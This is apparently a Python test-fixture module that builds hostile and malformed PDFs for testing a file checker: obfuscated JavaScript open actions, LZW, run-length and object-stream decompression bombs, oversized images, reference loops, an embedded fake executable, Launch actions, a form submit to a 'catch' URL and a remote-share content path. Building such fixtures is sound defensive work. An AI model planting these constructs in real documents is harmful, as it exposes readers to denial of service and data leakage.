"""What the bad files are made of."""

import io
import struct
import zipfile
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, ObjectStreamMode, String

from tests.files import pdfs
from tests.files.by_hand import CATALOG, CONTENTS, PAGE, PAGES, stream
from tests.files.pdfs import annotate, annotation, plain, script

MEGABYTE = 1024 * 1024
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00" + b"This program cannot be run in DOS mode.\r\n" * 20
PAGE_OF_HTML = b"<!DOCTYPE html><html><script>location='http://127.0.0.1/'</script></html>"


def archive(*names: str, size: int = 100) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name in names:
            made.writestr(name, bytes(size))
    return out.getvalue()


def word(size: int = 100) -> bytes:
    return archive("[Content_Types].xml", "word/document.xml", size=size)


def root(**values: pikepdf.Object) -> Callable[[pikepdf.Pdf], None]:
    def change(pdf: pikepdf.Pdf) -> None:
        for key, value in values.items():
            pdf.Root[f"/{key}"] = value

    return change


def named_script(pdf: pikepdf.Pdf) -> None:
    tree = Dictionary(Names=Array([String("a"), pdf.make_indirect(script())]))
    pdf.Root.Names = Dictionary(JavaScript=pdf.make_indirect(tree))


def script_in_a_stream(pdf: pikepdf.Pdf) -> None:
    pdf.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=pikepdf.Stream(pdf, b"app.alert(1)"))


def script_after_a_jump(pdf: pikepdf.Pdf) -> None:
    jump = Dictionary(
        S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=Array([Dictionary(S=Name.Named), script()])
    )
    annotate(pdf, annotation(Subtype=Name.Link, A=jump))


def obfuscated() -> bytes:
    open_action = b"<< /S /J#61v#61Scr#69pt /#4aS (app.alert\\0501\\051) >>"
    catalog = b"<< /Type /Catalog /Pages 2 0 R /Open#41ction 5 0 R >>"
    return pdfs.written(catalog, PAGES, PAGE, CONTENTS, open_action)


def behind_a_reference() -> bytes:
    catalog = b"<< /Type /Catalog /Pages 2 0 R /OpenAction << /S 5 0 R /JS 6 0 R >> >>"
    return pdfs.written(catalog, PAGES, PAGE, CONTENTS, b"/JavaScript", b"(app.alert(1))")


def xref_loop() -> bytes:
    whole = pdfs.written(CATALOG, PAGES, PAGE, CONTENTS, trailer=b"/Prev 0000000000")
    start = b"%010d" % whole.rindex(b"xref\n0 ")
    return whole.replace(b"/Prev 0000000000", b"/Prev " + start)


def wrong_startxref() -> bytes:
    whole = plain(object_stream_mode=ObjectStreamMode.disable)
    head, _, _ = whole.rpartition(b"startxref")
    return head + b"startxref\n7\n%%EOF\n"


def page_tree_loop() -> bytes:
    return pdfs.written(CATALOG, b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>", PAGE, CONTENTS)


def page_of_itself() -> bytes:
    return pdfs.written(CATALOG, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>")


def deep(depth: int) -> bytes:
    return pdfs.written(CATALOG, PAGES, PAGE, CONTENTS, b"[" * depth + b"]" * depth)


def deep_page_tree(depth: int) -> bytes:
    nodes = [b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (number + 1) for number in range(2, depth + 2)]
    return pdfs.written(CATALOG, *nodes, b"<< /Type /Page /MediaBox [0 0 9 9] >>")


def many_objects(pdf: pikepdf.Pdf) -> None:
    pdf.Root.Many = Array([pdf.make_indirect(Array([])) for _ in range(100_100)])


def endless_list() -> bytes:
    return pdfs.written(CATALOG, PAGES, PAGE, CONTENTS, b"[" + b"[] " * 600_000 + b"]")


def picture_bomb(pdf: pikepdf.Pdf) -> None:
    image = pikepdf.Stream(pdf, b"\x00" * 100)
    image.stream_dict.update(Dictionary(Subtype=Name.Image, Width=60_000, Height=60_000, BitsPerComponent=8))
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=image))


def more_than_the_picture(pdf: pikepdf.Pdf) -> None:
    image = pikepdf.Stream(pdf, b"")
    image.write(pdfs.zeros(60), filter=Name.FlateDecode)
    image.stream_dict.update(Dictionary(Subtype=Name.Image, Width=100, Height=100, BitsPerComponent=8))
    pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=image))


def picture_of_its_own(name: str, content: bytes, **parameters: int) -> Callable[[pikepdf.Pdf], None]:
    """Put a picture into a PDF that says it is small, whatever the picture's own headers say."""

    def change(pdf: pikepdf.Pdf) -> None:
        image = pikepdf.Stream(pdf, content, Filter=Name(name))
        image.stream_dict.update(Dictionary(Subtype=Name.Image, Width=100, Height=100, BitsPerComponent=8))
        if parameters:
            image.DecodeParms = Dictionary({f"/{key}": value for key, value in parameters.items()})
        pdf.pages[0].Resources = Dictionary(XObject=Dictionary(Im0=image))

    return change


def wide_jpeg_2000(side: int = 60_000) -> bytes:
    size = struct.pack(">HHIIIIIIIIHBBB", 41, 0, side, side, 0, 0, side, side, 0, 0, 1, 7, 1, 1)
    return b"\xff\x4f\xff\x51" + size + b"\xff\xd9"


def wide_jbig2(side: int = 60_000) -> bytes:
    page = struct.pack(">IIIIBH", side, side, 0, 0, 0, 0)
    return struct.pack(">IBBBI", 0, 48, 0, 1, len(page)) + page


def many_patterns() -> bytes:
    patterns = struct.pack(">BBBI", 0, 255, 255, 0xFFFFFF)
    return struct.pack(">IBBBI", 0, 16, 0, 1, len(patterns)) + patterns


def run_length_bomb() -> bytes:
    body = b"\x81\x00" * (7 * MEGABYTE // 4) + b"\x80"
    return pdfs.written(CATALOG, PAGES, PAGE, stream(body, more=b"/Filter /RunLengthDecode"))


def lzw_bomb() -> bytes:
    """Codes for ever longer rows of one letter: 170 kilobytes that become 150 megabytes."""
    codes = [256, 0, *range(258, 4000)]
    text = ""
    for turn in range(19):
        for place, code in enumerate(codes):
            size = 12 if turn and not place else 9 if place < 255 else 10 if place < 767 else 11 if place < 1791 else 12
            text += f"{code:0{size}b}"
    bits = len(text) + -len(text) % 8
    body = int(text.ljust(bits, "0"), 2).to_bytes(bits // 8, "big")
    return pdfs.written(CATALOG, PAGES, PAGE, stream(body, more=b"/Filter /LZWDecode"))


def bomb_in_an_object_stream() -> bytes:
    """The list of objects itself unpacks to 70 MB, 1,000 times its size."""
    packed = pdfs.zeros(70)
    body = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream" % (
        len(packed),
        packed,
    )
    return with_object_stream(body)


def with_object_stream(body: bytes) -> bytes:
    objects = [CATALOG, PAGES, PAGE, CONTENTS, body]
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    rows = [b"\x00\x00\x00\x00\x00\x00", *(b"\x01" + place.to_bytes(4, "big") + b"\x00" for place in places)]
    rows += [b"\x02\x00\x00\x00\x05\x00", b"\x01" + start.to_bytes(4, "big") + b"\x00"]
    table = b"".join(rows)
    more = b"/Type /XRef /Size 8 /W [1 4 1] /Root 1 0 R"
    out += b"7 0 obj\n" + stream(table, more=more) + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def short_stream() -> bytes:
    return pdfs.written(CATALOG, PAGES, PAGE, stream(b"0 0 m 100 100 l S" * 9, length=3))


def long_stream() -> bytes:
    return pdfs.written(CATALOG, PAGES, PAGE, stream(b"0 0 m 100 100 l S", length=4_000_000))


def broken_stream() -> bytes:
    return pdfs.written(CATALOG, PAGES, PAGE, stream(b"\x78\x9cnot what it says", more=b"/Filter /FlateDecode"))


def zip_around_a_pdf() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("x.exe", PROGRAM)
        made.comment = b"\n%%EOF\n"
    return plain() + out.getvalue()


def xfa(pdf: pikepdf.Pdf) -> None:
    pdfs.form(pdf)
    pdf.Root.AcroForm.XFA = pikepdf.Stream(pdf, b"<xdp:xdp><script>1</script></xdp:xdp>")


def attachment_on_a_page(pdf: pikepdf.Pdf) -> None:
    file = pdf.make_indirect(pikepdf.Stream(pdf, PROGRAM, Type=Name.EmbeddedFile))
    where = Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=file))
    annotate(pdf, annotation(Subtype=Name.FileAttachment, FS=where))


def content_elsewhere(pdf: pikepdf.Pdf) -> None:
    pdf.pages[0].Contents.stream_dict.F = String("\\\\198.51.100.7\\share\\x")


def submit(pdf: pikepdf.Pdf) -> None:
    pdfs.form(pdf)
    where = Dictionary(FS=Name.URL, F=String("https://example.com/catch"))
    pdf.pages[0].Annots[0].A = Dictionary(S=Name.SubmitForm, F=where, Flags=4)


def launch(**values: Any) -> Callable[[pikepdf.Pdf], None]:  # noqa: ANN401 - pikepdf's own
    return lambda pdf: annotate(pdf, annotation(Subtype=Name.Link, A=Dictionary(S=Name.Launch, **values)))


def wide(picture: bytes) -> bytes:
    """Let a JPEG say that it is 65,500 pixels wide and high."""
    at = picture.index(b"\xff\xc0") + 5
    return picture[:at] + b"\xff\xdc\xff\xdc" + picture[at + 4 :]
